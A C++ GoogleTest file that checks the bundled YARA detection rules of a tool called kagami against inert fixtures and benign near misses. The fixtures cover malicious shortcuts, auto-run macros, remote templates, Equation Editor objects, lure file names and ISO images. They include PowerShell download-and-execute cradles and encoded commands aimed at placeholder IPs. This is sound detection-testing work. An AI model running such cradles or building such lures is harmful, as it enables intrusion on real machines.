// The bundled rules (rules/*.yar): each fires on an inert fixture of the structure it
// describes, raw or as kagami's decoded view, and stays quiet on its near miss.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <iostream>
#include <map>
#include <regex>

#include "detect/yara/rules.h"
#include "support/cfb_builder.h"
#include "support/lnk_builder.h"
#include "support/rtf_builder.h"
#include "support/test_support.h"

namespace kagami::detect::yara {
namespace {

const RuleSet& bundled() {
    static std::shared_ptr<const RuleSet> set = [] {
        CompileReport report;
        auto s = RuleSet::compile(RuleSet::bundled_files(), &report);
        return s;
    }();
    return *set;
}

std::vector<std::string> hits(std::string_view bytes, std::string_view type,
                              std::string_view name = "", bool decoded = false) {
    std::vector<std::string> out;
    ScanTarget t{bytes, type, name, name.empty() ? std::string_view("part") : name, decoded};
    for (const auto& m : bundled().scan(t, 5000)) out.push_back(m.rule);
    std::sort(out.begin(), out.end());
    return out;
}

std::vector<std::string> view_hits(std::string_view type, std::string_view view) {
    return hits(view, type, "", true);
}

bool has(const std::vector<std::string>& v, std::string_view rule) {
    return std::find(v.begin(), v.end(), rule) != v.end();
}

using Rules = std::vector<std::string>;

TEST(YaraBundled, CompileCleanlyWithMetaOnEveryRule) {
    CompileReport report;
    auto files = RuleSet::bundled_files();
    ASSERT_GE(files.size(), 5u);
    auto set = RuleSet::compile(files, &report);
    ASSERT_NE(set, nullptr);
    for (const auto& e : report.errors)
        ADD_FAILURE() << e.file << ":" << e.line << ": " << e.message;
    for (const auto& w : report.warnings)
        ADD_FAILURE() << "warning " << w.file << ":" << w.line << ": " << w.message;
    EXPECT_EQ(report.compiled, files.size());
    std::regex rule_re(R"(\nrule (\w+)\s*\{([\s\S]*?)\n\})");
    std::size_t rules = 0;
    for (const auto& f : files) {
        for (std::sregex_iterator it(f.text.begin(), f.text.end(), rule_re), end; it != end; ++it) {
            ++rules;
            std::string body = (*it)[2];
            std::string name = (*it)[1];
            EXPECT_EQ(name.rfind("kagami_", 0), 0u) << name;
            EXPECT_NE(body.find("description = \""), std::string::npos) << name;
            EXPECT_TRUE(std::regex_search(body, std::regex(R"(attack = "T\d{4})"))) << name;
            EXPECT_NE(body.find("author = \"kagami\""), std::string::npos) << name;
        }
    }
    EXPECT_EQ(rules, set->rule_count());
}

// ---- shortcuts -------------------------------------------------------------------

std::string shortcut(const std::string& target, const std::string& arguments, bool unicode = true) {
    test::lnk::Options o;
    o.target = target;
    o.arguments = arguments;
    o.unicode = unicode;
    o.working_dir = "C:\\Users\\Public";
    return test::lnk::build(o);
}

TEST(YaraBundledLnk, ShortcutStartingAScriptHostFires) {
    auto ps = shortcut("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                       "-w hidden -c Get-Date");
    EXPECT_TRUE(has(hits(ps, "lnk", "Report.lnk"), "kagami_lnk_script_host"));
    auto cmd = shortcut("C:\\Windows\\System32\\cmd.exe", "/c start notepad", false);
    EXPECT_TRUE(has(hits(cmd, "lnk", "a.lnk"), "kagami_lnk_script_host"));
    auto mshta = shortcut("C:\\Windows\\SysWOW64\\MSHTA.EXE", "https://example.invalid/a.hta");
    EXPECT_TRUE(has(hits(mshta, "lnk", "a.lnk"), "kagami_lnk_script_host"));
    auto headless = shortcut("C:\\Windows\\System32\\conhost.exe", "--headless cmd /c whoami");
    EXPECT_TRUE(has(hits(headless, "lnk", "a.lnk"), "kagami_lnk_script_host"));
}

TEST(YaraBundledLnk, DecodedViewNamingAScriptHostFires) {
    EXPECT_TRUE(has(
        view_hits("lnk",
                  "lnk.flags: HasArguments\n"
                  "lnk.arguments: -NoP -w hidden -c \"Write-Output 1\"\n"
                  "lnk.target: C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\PowerShell.exe\n"),
        "kagami_lnk_script_host"));
    EXPECT_TRUE(has(
        view_hits("lnk", "lnk.target: C:\\Windows\\System32\\cmd.exe\nlnk.arguments: /c echo x\n"),
        "kagami_lnk_script_host"));
    EXPECT_TRUE(has(view_hits("lnk",
                              "lnk.target: C:\\Windows\\explorer.exe\n"
                              "lnk.arguments: /c forfiles /p c:\\windows /m notepad.exe /c calc\n"),
                    "kagami_lnk_script_host"));
}

TEST(YaraBundledLnk, OrdinaryShortcutsAndNoticesDoNotFire) {
    auto word = shortcut("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                         "\"C:\\Users\\sato\\Documents\\Quarterly report.docx\"");
    EXPECT_EQ(hits(word, "lnk", "Quarterly report.lnk"), Rules{});
    auto explorer = shortcut("C:\\Windows\\explorer.exe", "/e,C:\\Users\\sato\\Documents");
    EXPECT_EQ(hits(explorer, "lnk", "Documents.lnk"), Rules{});
    auto folder = shortcut("C:\\Users\\sato\\Documents\\Commands and Scripts", "");
    EXPECT_EQ(hits(folder, "lnk", "Folder.lnk"), Rules{});
    EXPECT_EQ(
        view_hits("lnk",
                  "lnk.target: C:\\Windows\\explorer.exe\nlnk.arguments: /e,C:\\Users\\sato\n"),
        Rules{});
    // The same lines outside a shortcut's view, and an IT notice that names the tools.
    EXPECT_EQ(view_hits("text", "lnk.target: C:\\Windows\\System32\\cmd.exe\n"), Rules{});
    std::string notice =
        "From IT: on Friday we update PowerShell on all PCs. If a script fails, open cmd.exe and "
        "run\n"
        "cmd /c ipconfig /all, then mail the output. Do not run mshta or wscript files from "
        "mail.\n";
    EXPECT_EQ(view_hits("text", notice), Rules{});
    EXPECT_EQ(hits(notice, "message"), Rules{});
}

TEST(YaraBundledLnk, PaddedOrLongArgumentsFire) {
    auto padded = shortcut("C:\\Windows\\System32\\notepad.exe", std::string(120, ' ') + "/c x");
    EXPECT_TRUE(has(hits(padded, "lnk", "a.lnk"), "kagami_lnk_padded_or_long_arguments"));
    auto newlines = shortcut("C:\\Windows\\System32\\notepad.exe", std::string(20, '\n') + "x");
    EXPECT_TRUE(has(hits(newlines, "lnk", "a.lnk"), "kagami_lnk_padded_or_long_arguments"));
    EXPECT_TRUE(has(view_hits("lnk", "lnk.arguments: " + std::string(80, ' ') + "-c x\n"),
                    "kagami_lnk_padded_or_long_arguments"));
    EXPECT_TRUE(has(view_hits("lnk", "lnk.arguments: \\n\\n\\n\\n\\n\\n\\n\\n\\n\\nx\n"),
                    "kagami_lnk_padded_or_long_arguments"));
    EXPECT_TRUE(has(view_hits("lnk", "lnk.arguments: " + std::string(1500, 'A') + "\n"),
                    "kagami_lnk_padded_or_long_arguments"));
}

TEST(YaraBundledLnk, ShortArgumentsAreNotPadding) {
    auto normal =
        shortcut("C:\\Program Files\\App\\app.exe", "--profile \"Work  Account\"   --new-window");
    EXPECT_EQ(hits(normal, "lnk", "App.lnk"), Rules{});
    EXPECT_EQ(view_hits("lnk",
                        "lnk.arguments: --profile \"Work  Account\"   --new-window\n"
                        "lnk.target: C:\\Program Files\\App\\app.exe\n"),
              Rules{});
    EXPECT_EQ(view_hits("lnk", "lnk.arguments: C:\\\\server\\\\share\\\\dir\n"), Rules{});
    // A long line that is not the arguments.
    EXPECT_EQ(view_hits("lnk", "lnk.idlist_item: " + std::string(1500, 'A') + "\n"), Rules{});
}

// ---- macros ----------------------------------------------------------------------

TEST(YaraBundledVba, AutoExecMacroThatRunsAProgramFires) {
    std::string view =
        "vba.project: VBAProject\nvba.module: NewMacros\n"
        "vba.source: NewMacros:\nAttribute VB_Name = \"NewMacros\"\nSub AutoOpen()\n"
        "    Dim c As String\n    c = \"notepad.exe\"\n    Shell c, vbHide\nEnd Sub\n"
        "vba.auto_exec: AutoOpen: runs when the document opens\n";
    EXPECT_TRUE(has(view_hits("docm", view), "kagami_vba_autoexec_runs_code"));
    std::string excel =
        "vba.source: ThisWorkbook:\nPrivate Sub Workbook_Open()\n"
        "    Set sh = CreateObject(\"WScript.Shell\")\n    sh.Run \"calc\", 0\nEnd Sub\n";
    EXPECT_TRUE(has(view_hits("xlsm", excel), "kagami_vba_autoexec_runs_code"));
    std::string download =
        "vba.source: Module1:\nsub document_open ( )\n  URLDownloadToFile 0, u, p, 0, 0\nend sub\n";
    EXPECT_TRUE(has(view_hits("doc", download), "kagami_vba_autoexec_runs_code"));
}

TEST(YaraBundledVba, HarmlessAutoExecOrShellWithoutAutoExecDoesNotFire) {
    std::string fields =
        "vba.source: ThisDocument:\nSub AutoOpen()\n    ActiveDocument.Fields.Update\n"
        "    MsgBox \"Shell company report updated\"\nEnd Sub\n";
    EXPECT_EQ(view_hits("docm", fields), Rules{});
    std::string manual =
        "vba.source: Module1:\nSub ExportReport()\n    Shell \"notepad.exe\", 1\nEnd Sub\n";
    EXPECT_EQ(view_hits("docm", manual), Rules{});
    // Raw bytes (the compressed project) are not the view.
    EXPECT_EQ(hits("vba.source: M:\nSub AutoOpen()\nShell \"x\"\nEnd Sub\n", "text"), Rules{});
}

// ---- templates and objects -------------------------------------------------------

TEST(YaraBundledOffice, RemoteTemplatesFire) {
    for (const char* v :
         {"ooxml.external: attachedTemplate -> http://203.0.113.5/tmpl.dotm\n",
          "ooxml.external: attachedTemplate -> HTTPS://cdn.example.invalid/a.dotm\n",
          "ooxml.external: attachedTemplate -> \\\\198.51.100.7\\share\\a.dotm\n",
          "ooxml.external: attachedTemplate -> file://fileserver.example/share/a.dotm\n",
          "ooxml.external: oleObject -> "
          "mhtml:http://x.invalid/a.html!x-usc:http://x.invalid/a.html\n",
          "ole2.doc.template: http://203.0.113.5/a.dot\n"})
        EXPECT_TRUE(has(view_hits("docx", v), "kagami_remote_template")) << v;
    std::string rtf = "{\\rtf1\\ansi{\\*\\template http://203.0.113.5/a.dot}Hello}";
    EXPECT_TRUE(has(hits(rtf, "rtf", "a.rtf"), "kagami_remote_template"));
}

TEST(YaraBundledOffice, LocalTemplatesAndLinksDoNotFire) {
    for (const char* v :
         {"ooxml.external: attachedTemplate -> "
          "file:///C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm\n",
          "ooxml.external: attachedTemplate -> Normal.dotm\n",
          "ooxml.external: hyperlink -> https://www.mofa.go.jp/\n",
          "ole2.doc.template: "
          "C:\\Users\\sato\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm\n"})
        EXPECT_EQ(view_hits("docx", v), Rules{}) << v;
    EXPECT_EQ(hits("{\\rtf1{\\*\\template C:\\\\Templates\\\\Normal.dot}Hi}", "rtf", "a.rtf"),
              Rules{});
    // The words in an ordinary mail.
    EXPECT_EQ(view_hits("text",
                        "Please use the attachedTemplate from http://intranet.example/templates\n"),
              Rules{});
}

TEST(YaraBundledOffice, EquationEditorObjectsFire) {
    const std::string clsid("\x02\xCE\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46", 16);
    test::CfbBuilder cfb;
    int pool = cfb.add_storage(0, "ObjectPool");
    int obj = cfb.add_storage(pool, "_1234567890", clsid);
    cfb.add_stream(obj, "\x01Ole10Native", std::string(64, 'A'));
    EXPECT_TRUE(has(hits(cfb.build(), "doc", "a.doc"), "kagami_equation_editor_object"));

    std::string rtf = test::rtf::document(test::rtf::object(
        "Equation.3", test::rtf::hex(test::rtf::ole1("Equation.3", std::string(32, 'B')))));
    EXPECT_TRUE(has(hits(rtf, "rtf", "a.rtf"), "kagami_equation_editor_object"));
    // objdata alone (no \objclass): the class name is in the hex.
    std::string bare = "{\\rtf1{\\object\\objemb{\\*\\objdata " +
                       test::rtf::hex(test::rtf::ole1("Equation.3", "x")) + "}}}";
    EXPECT_TRUE(has(hits(bare, "rtf", "a.rtf"), "kagami_equation_editor_object"));
    EXPECT_TRUE(has(
        view_hits(
            "doc",
            "ole2.clsid: {0002CE02-0000-0000-C000-000000000046}\nole2.clsid_name: Equation.3\n"),
        "kagami_equation_editor_object"));
    EXPECT_TRUE(
        has(view_hits("rtf", "rtf.object.class: Equation.3\n"), "kagami_equation_editor_object"));
}

TEST(YaraBundledOffice, OtherEmbeddedObjectsDoNotFire) {
    const std::string word_clsid("\x06\x09\x02\x00\x00\x00\x00\x00\xC0\x00\x00\x00\x00\x00\x00\x46",
                                 16);
    test::CfbBuilder cfb;
    cfb.set_root_clsid(word_clsid);
    cfb.add_stream(0, "WordDocument", std::string(600, '\0'));
    EXPECT_EQ(hits(cfb.build(), "doc", "a.doc"), Rules{});
    std::string rtf = test::rtf::document(test::rtf::object(
        "Package",
        test::rtf::hex(test::rtf::ole1("Package", test::rtf::package("a.txt", "hello")))));
    EXPECT_EQ(hits(rtf, "rtf", "a.rtf"), Rules{});
    EXPECT_EQ(
        view_hits("doc", "ole2.clsid_name: Word.Document.8\nrtf.object.class: Excel.Sheet.12\n"),
        Rules{});
    EXPECT_EQ(view_hits("text", "The equation on page 3 (Equation 3) is wrong.\n"), Rules{});
}

// ---- containers --------------------------------------------------------------------

std::string iso_with(const std::vector<std::string>& iso_names,
                     const std::vector<std::string>& joliet_names) {
    std::string iso(0x8800, '\0');
    iso.replace(0x8000, 6,
                std::string("\x01"
                            "CD001",
                            6));
    std::size_t at = 0x8100;
    for (const auto& n : iso_names) {
        iso.replace(at, n.size(), n);
        at += n.size() + 40;
    }
    for (const auto& n : joliet_names) {
        std::string be;  // UTF-16BE
        for (char c : n) (be += '\0') += c;
        iso.replace(at, be.size(), be);
        at += be.size() + 40;
    }
    return iso;
}

TEST(YaraBundledContainer, ImageOrArchiveWithShortcutAndDllFires) {
    EXPECT_TRUE(has(hits(iso_with({"INVOICE.LNK;1", "VERSION.DLL;1"}, {}), "iso9660", "a.iso"),
                    "kagami_container_lnk_and_executable"));
    EXPECT_TRUE(has(hits(iso_with({}, {"Invoice.lnk", "version.dll"}), "iso9660", "a.iso"),
                    "kagami_container_lnk_and_executable"));
    std::string view =
        "archive.format: iso9660\narchive.entry: 資料.pdf.lnk (2048 bytes)\n"
        "archive.entry: data/libcurl.DLL (81920 bytes)\n";
    EXPECT_TRUE(has(view_hits("iso9660", view), "kagami_container_lnk_and_executable"));
    EXPECT_TRUE(has(view_hits("iso9660", view), "kagami_disk_image_executable"));
    EXPECT_TRUE(has(view_hits("zip", view), "kagami_container_lnk_and_executable"));
    EXPECT_FALSE(has(view_hits("zip", view), "kagami_disk_image_executable"));
    EXPECT_TRUE(has(view_hits("udf", "archive.entry: setup.exe (100 bytes)\n"),
                    "kagami_disk_image_executable"));
}

TEST(YaraBundledContainer, DocumentsOnlyOrOneHalfDoesNotFire) {
    EXPECT_EQ(hits(iso_with({"README.TXT;1", "SETUP.LNK;1"}, {"readme.txt", "setup.lnk"}),
                   "iso9660", "a.iso"),
              Rules{});
    EXPECT_EQ(hits(iso_with({"REPORT.PDF;1", "DATA.XLSX;1"}, {}), "iso9660", "a.iso"), Rules{});
    EXPECT_EQ(
        view_hits("iso9660",
                  "archive.entry: report.pdf (1000 bytes)\narchive.entry: notes.txt (10 bytes)\n"),
        Rules{});
    EXPECT_EQ(
        view_hits("zip",
                  "archive.entry: setup.exe (100 bytes)\narchive.entry: readme.txt (10 bytes)\n"),
        Rules{});
    EXPECT_EQ(
        view_hits(
            "zip",
            "archive.entry: links.lnk.txt (10 bytes)\narchive.entry: dll.exe.pdf (10 bytes)\n"),
        Rules{});
    // Lines that only look like the view, in a mail body.
    EXPECT_EQ(view_hits("text", "archive.entry: a.lnk (1 bytes)\narchive.entry: b.dll (1 bytes)\n"),
              Rules{});
}

// ---- names -------------------------------------------------------------------------

TEST(YaraBundledName, DoubleExtensionAndRightToLeftOverrideFire) {
    for (const char* n : {"Invoice.pdf.exe", "\xE8\xB3\x87\xE6\x96\x99.docx      .scr",
                          "report.PDF.lnk", "photo.jpg.js", "minutes.docx_.hta"})
        EXPECT_TRUE(has(hits("MZ", "exe", n), "kagami_double_extension")) << n;
    EXPECT_TRUE(has(hits("x", "exe", "invoice\xE2\x80\xAEtxt.exe"), "kagami_rtl_override_name"));
}

TEST(YaraBundledName, OrdinaryNamesDoNotFire) {
    for (const char* n : {"setup.exe", "report.final.pdf", "v1.2.docx", "archive.tar.gz",
                          "data.pdf.zip", "minutes.docx"})
        EXPECT_EQ(hits("x", "data", n), Rules{}) << n;
    // Only the raw scan looks at names: the decoded view of the same file does not repeat it.
    EXPECT_EQ(hits("x", "exe", "Invoice.pdf.exe", true), Rules{});
}

// ---- scripts -----------------------------------------------------------------------

TEST(YaraBundledScript, EncodedPowerShellAndCradlesFire) {
    std::string b64(64, 'A');
    b64 += "bwBuAGUA";
    EXPECT_TRUE(
        has(view_hits("lnk", "lnk.arguments: /c powershell.exe -NoP -W Hidden -enc " + b64 + "\n"),
            "kagami_powershell_encoded_or_cradle"));
    EXPECT_TRUE(has(hits("cmd /c \"PowerShell -EncodedCommand " + b64 + "\"", "batch", "a.bat"),
                    "kagami_powershell_encoded_or_cradle"));
    EXPECT_TRUE(has(view_hits("text", "Press Win+R and paste: powershell -w h -e " + b64 + "\n"),
                    "kagami_powershell_encoded_or_cradle"));
    EXPECT_TRUE(has(hits("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')",
                         "powershell", "a.ps1"),
                    "kagami_powershell_encoded_or_cradle"));
    EXPECT_TRUE(has(hits("iwr http://203.0.113.9/a -UseBasicParsing | iex", "powershell", "a.ps1"),
                    "kagami_powershell_encoded_or_cradle"));
}

TEST(YaraBundledScript, PowerShellMentionsDoNotFire) {
    for (const char* t :
         {"IT notice: PowerShell 7 will be installed tonight. Run 'powershell -ExecutionPolicy "
          "RemoteSigned -File update.ps1'.\n",
          "Never paste encoded commands (powershell -enc ...) you receive by mail.\n",
          "Invoke-WebRequest downloads a page; see Get-Help Invoke-WebRequest -Examples.\n"}) {
        EXPECT_EQ(view_hits("text", t), Rules{}) << t;
        EXPECT_EQ(hits(t, "message"), Rules{}) << t;
    }
}

TEST(YaraBundledScript, ShellObjectScriptsAndHtaFire) {
    EXPECT_TRUE(has(hits("var s = new ActiveXObject(\"WScript.Shell\");\ns.Run(\"notepad\", 0);",
                         "jscript", "a.js"),
                    "kagami_script_shell_object"));
    EXPECT_TRUE(has(hits("Set o = CreateObject(\"Shell.Application\")\no.ShellExecute \"notepad\"",
                         "vbscript", "a.vbs"),
                    "kagami_script_shell_object"));
    std::string hta =
        "<html><head><HTA:APPLICATION ID=\"app\" "
        "WINDOWSTATE=\"minimize\"></head><body></body></html>";
    EXPECT_TRUE(has(hits(hta, "hta", "a.hta"), "kagami_html_application"));
    EXPECT_TRUE(has(view_hits("hta", "html.hta: app\n"), "kagami_html_application"));
}

TEST(YaraBundledScript, OrdinaryScriptsAndHtmlDoNotFire) {
    EXPECT_EQ(
        hits("Set fso = CreateObject(\"Scripting.FileSystemObject\")\nfso.CreateFolder \"C:\\\\x\"",
             "vbscript", "a.vbs"),
        Rules{});
    EXPECT_EQ(hits("<html><body><p>The WScript.Shell object can Run programs.</p></body></html>",
                   "html", "a.html"),
              Rules{});
    EXPECT_EQ(
        hits("<html><head><title>HTA: application notes</title></head></html>", "html", "a.html"),
        Rules{});
}

// ---- benign corpora ----------------------------------------------------------------

/// Rule -> files it fired on, scanning every raw file under `dir` with its own name.
std::map<std::string, std::vector<std::string>> survey(const std::filesystem::path& dir) {
    std::map<std::string, std::vector<std::string>> out;
    for (const auto& e : std::filesystem::recursive_directory_iterator(dir)) {
        if (!e.is_regular_file()) continue;
        std::string bytes = test::read_file(e.path());
        std::string name = e.path().filename().string();
        for (const auto& rule : hits(bytes, "data", name))
            out[rule].push_back(std::filesystem::relative(e.path(), test::corpora_dir()).string());
    }
    for (const auto& [rule, files] : out) {
        std::cout << "  " << rule << ": " << files.size() << " file(s)";
        for (std::size_t i = 0; i < files.size() && i < 3; ++i)
            std::cout << (i ? ", " : " e.g. ") << files[i];
        std::cout << "\n";
    }
    return out;
}

TEST(YaraBundledCorpora, HamMailIsQuiet) {
    auto root = test::corpora_dir() / "spamassassin_public_corpus";
    if (!std::filesystem::is_directory(root / "easy-ham-2")) GTEST_SKIP() << "corpus absent";
    for (const char* folder : {"easy-ham-2", "hard-ham-1"})
        EXPECT_TRUE(survey(root / folder).empty()) << folder;
}

TEST(YaraBundledCorpora, OletoolsHitsAreTheStructuresTheRulesDescribe) {
    auto root = test::corpora_dir() / "oletools_test_data";
    if (!std::filesystem::is_directory(root)) GTEST_SKIP() << "corpus absent";
    auto found = survey(root);
    // Raw files: macros are compressed and templates sit in zipped XML, so only the
    // structures visible in raw bytes can fire here (RTF/OLE equation objects, names).
    for (const auto& [rule, files] : found)
        EXPECT_TRUE(rule == "kagami_equation_editor_object" || rule == "kagami_remote_template" ||
                    rule == "kagami_script_shell_object" ||
                    rule == "kagami_powershell_encoded_or_cradle" ||
                    rule == "kagami_html_application")
            << rule;
}

TEST(YaraBundledCorpora, LnkSamplesReport) {
    auto root = test::corpora_dir() / "lnkparse3_samples";
    if (!std::filesystem::is_directory(root)) GTEST_SKIP() << "corpus absent";
    auto found = survey(root);
    // The samples are ordinary shortcuts plus a few that start cmd or PowerShell;
    // nothing else of ours should fire on them.
    for (const auto& [rule, files] : found)
        EXPECT_TRUE(rule.rfind("kagami_lnk_", 0) == 0 ||
                    rule == "kagami_powershell_encoded_or_cradle")
            << rule;
}

}  // namespace
}  // namespace kagami::detect::yara
